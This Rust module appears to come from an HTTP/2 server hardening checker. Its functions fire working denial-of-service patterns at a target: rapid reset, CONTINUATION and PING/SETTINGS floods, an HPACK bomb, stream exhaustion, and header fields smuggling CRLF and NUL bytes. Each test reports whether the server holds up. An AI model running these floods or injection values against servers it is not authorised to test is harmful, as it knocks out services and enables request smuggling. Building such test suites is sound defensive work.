//! C: HTTP/2.

use std::time::Duration;

use crate::{
    arena::{Arena, route},
    verdict::{Finding, Trouble},
    wire::{Frames, Kind, encode, frame, indexed_literal},
};

pub(crate) async fn rapid_reset(arena: &Arena) -> Finding {
    let block = request(arena, "GET", arena.control());
    let one = |stream: u32| {
        let mut bytes = frame(Kind::Headers, END_HEADERS | END_STREAM, stream, &block);
        bytes.extend(frame(Kind::Reset, 0, stream, &8u32.to_be_bytes()));
        bytes
    };
    let count = arena.intensity.scale(20_000);
    flood(arena, "C01", "streams, each opened and reset", count, one).await
}

pub(crate) async fn made_you_reset(arena: &Arena) -> Finding {
    let block = request(arena, "GET", arena.control());
    let one = |stream: u32| {
        let mut bytes = frame(Kind::Headers, END_HEADERS, stream, &block);
        bytes.extend(frame(Kind::WindowUpdate, 0, stream, &[0; 4]));
        bytes
    };
    let count = arena.intensity.scale(20_000);
    flood(
        arena,
        "C02",
        "streams, each with a WINDOW_UPDATE of 0",
        count,
        one,
    )
    .await
}

pub(crate) async fn continuation_flood(arena: &Arena) -> Finding {
    let mut frames = Frames::connect(arena, arena.fresh()).await?.ready().await?;
    let block = request(arena, "GET", arena.control());
    frames.send(Kind::Headers, END_STREAM, 1, &block).await?;
    let part = encode(&[("x-siege", &[b'a'; 1000])]);
    let mut sent = 0;
    while sent < 1 << 20 && !frames.is_over() {
        frames.send(Kind::Continuation, 0, 1, &part).await?;
        sent += part.len();
        tokio::task::yield_now().await;
    }
    over(arena, &frames, "C03", "1 MB of CONTINUATION frames").await
}

pub(crate) async fn hpack_bomb(arena: &Arena) -> Finding {
    let mut frames = Frames::connect(arena, arena.fresh()).await?.ready().await?;
    let mut block = request(arena, "GET", arena.control());
    indexed_literal(&mut block, b"x-siege", &[b'a'; 3900]);
    // 62 is the newest entry of the dynamic table: a field of 3.9 KB for a byte.
    block.extend(std::iter::repeat_n(0x80 | 62, 4000));
    frames
        .send(Kind::Headers, END_HEADERS | END_STREAM, 1, &block)
        .await?;
    frames
        .wait(ANSWER, |seen| {
            seen.refused(1) || seen.answers.contains_key(&1)
        })
        .await;
    let seen = frames.seen();
    match seen.refused(1) {
        true => Ok("refused".to_owned()),
        false => Err(seen
            .evidence(
                "a head of 16 MB is served",
                "a field of 3.9 KB, then 4,000 times its index",
                arena,
                "C04",
            )
            .into()),
    }
}

pub(crate) async fn ping_flood(arena: &Arena) -> Finding {
    let ping = frame(Kind::Ping, 0, 0, &[7; 8]);
    flood(arena, "C05", "PING frames", 50_000, |_| ping.clone()).await
}

pub(crate) async fn settings_flood(arena: &Arena) -> Finding {
    let settings = frame(Kind::Settings, 0, 0, &[]);
    flood(arena, "C06", "SETTINGS frames", 50_000, |_| {
        settings.clone()
    })
    .await
}

pub(crate) async fn empty_data_flood(arena: &Arena) -> Finding {
    let mut frames = Frames::connect(arena, arena.fresh()).await?.ready().await?;
    let block = request(arena, "POST", route(&arena.profile.routes.body)?);
    frames.send(Kind::Headers, END_HEADERS, 1, &block).await?;
    let many = frame(Kind::Data, 0, 1, &[]).repeat(100);
    for _ in 0..500 {
        arena.budget.request()?;
        frames.write(&many).await?;
        if frames.is_over() || frames.seen().refused(1) {
            break;
        }
        tokio::task::yield_now().await;
    }
    frames.wait(ANSWER, |seen| seen.refused(1)).await;
    let seen = frames.seen();
    match seen.refused(1) {
        true => Ok("ended".to_owned()),
        false => {
            let what = "50,000 DATA frames without data, and the stream goes on";
            Err(seen
                .evidence(what, "HEADERS, then empty DATA frames", arena, "C07")
                .into())
        }
    }
}

pub(crate) async fn too_many_streams(arena: &Arena) -> Finding {
    let mut frames = Frames::connect(arena, arena.fresh()).await?.ready().await?;
    let Some(max) = frames.seen().max_streams.filter(|max| *max <= 10_000) else {
        let what = "SETTINGS sets no bound on streams";
        return Err(frames
            .seen()
            .evidence(what, "SETTINGS", arena, "C09")
            .into());
    };
    // Requests whose bodies never come, so that every stream stays open.
    let block = request(arena, "POST", route(&arena.profile.routes.body)?);
    let last = (max + 20) * 2 + 1;
    for stream in (1..=last).step_by(2) {
        arena.budget.request()?;
        frames
            .send(Kind::Headers, END_HEADERS, stream, &block)
            .await?;
    }
    frames.wait(ANSWER, |seen| seen.refused(last)).await;
    let seen = frames.seen();
    match seen.refused(last) {
        true => Ok(format!("refused beyond {max}")),
        false => {
            let what = format!("{} streams at once; SETTINGS allows {max}", max + 21);
            Err(seen
                .evidence(what, "HEADERS without END_STREAM, on each", arena, "C09")
                .into())
        }
    }
}

pub(crate) async fn invalid_fields(arena: &Arena) -> Finding {
    let bad: [(&str, &[u8]); 8] = [
        ("connection", b"close"),
        ("keep-alive", b"5"),
        ("transfer-encoding", b"chunked"),
        ("te", b"gzip"),
        ("X-Upper", b"a"),
        ("x-lines", b"a\r\nb: c"),
        ("x-line", b"a\nb"),
        ("x-nul", b"a\0b"),
    ];
    for (name, value) in bad {
        let mut frames = Frames::connect(arena, arena.fresh()).await?.ready().await?;
        let mut block = request(arena, "GET", arena.control());
        block.extend(encode(&[(name, value)]));
        served_or_not(
            arena,
            &mut frames,
            &block,
            &format!("the field {name:?}"),
            "C10",
        )
        .await?;
    }
    Ok("8 fields refused".to_owned())
}

pub(crate) async fn authority_and_host(arena: &Arena) -> Finding {
    let mut frames = Frames::connect(arena, arena.fresh()).await?.ready().await?;
    let mut block = request(arena, "GET", arena.control());
    block.extend(encode(&[("host", b"siege-host.example")]));
    served_or_not(
        arena,
        &mut frames,
        &block,
        "an authority and another host",
        "C11",
    )
    .await?;
    Ok("refused".to_owned())
}

async fn served_or_not(
    arena: &Arena,
    frames: &mut Frames,
    block: &[u8],
    sent: &str,
    id: &str,
) -> Result<(), Trouble> {
    arena.budget.request()?;
    frames
        .send(Kind::Headers, END_HEADERS | END_STREAM, 1, block)
        .await?;
    frames
        .wait(ANSWER, |seen| {
            seen.refused(1) || seen.answers.contains_key(&1)
        })
        .await;
    let seen = frames.seen();
    match seen.refused(1) {
        true => Ok(()),
        false => {
            let what = match seen.status(1) {
                Some(status) => format!("{sent} is answered with {status}"),
                None => format!("{sent} is neither refused nor answered"),
            };
            Err(seen.evidence(what, sent, arena, id).into())
        }
    }
}

/// Sends until the server has enough, or everything is sent.
async fn flood(
    arena: &Arena,
    id: &str,
    what: &str,
    count: usize,
    one: impl Fn(u32) -> Vec<u8>,
) -> Finding {
    let mut frames = Frames::connect(arena, arena.fresh()).await?.ready().await?;
    let mut sent = 0;
    while sent < count && !frames.is_over() {
        let mut bytes = Vec::new();
        for _ in 0..50 {
            arena.budget.request()?;
            bytes.extend(one(sent as u32 * 2 + 1));
            sent += 1;
        }
        frames.write(&bytes).await?;
        tokio::task::yield_now().await;
    }
    over(arena, &frames, id, &format!("{sent} {what}")).await
}

/// Whether the server has ended the connection.
async fn over(arena: &Arena, frames: &Frames, id: &str, sent: &str) -> Finding {
    frames
        .wait(ANSWER, |seen| seen.closed || seen.goaway.is_some())
        .await;
    let seen = frames.seen();
    match (seen.goaway, seen.closed) {
        (Some(code), _) => Ok(format!("GOAWAY ({code})")),
        (None, true) => Ok("closed".to_owned()),
        (None, false) => Err(seen
            .evidence(
                format!("{sent}, and the connection goes on"),
                sent,
                arena,
                id,
            )
            .into()),
    }
}

/// The block of a request, with the valid key if one is known.
fn request(arena: &Arena, method: &str, path: &str) -> Vec<u8> {
    let key = arena.profile.keys.valid.as_deref().unwrap_or("");
    let fields: [(&str, &[u8]); 5] = [
        (":method", method.as_bytes()),
        (":scheme", b"http"),
        (":authority", arena.target.authority().as_bytes()),
        (":path", path.as_bytes()),
        (&arena.profile.keys.header, key.as_bytes()),
    ];
    let count = if key.is_empty() { 4 } else { 5 };
    encode(&fields[..count])
}

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ANSWER: Duration = Duration::from_secs(2);
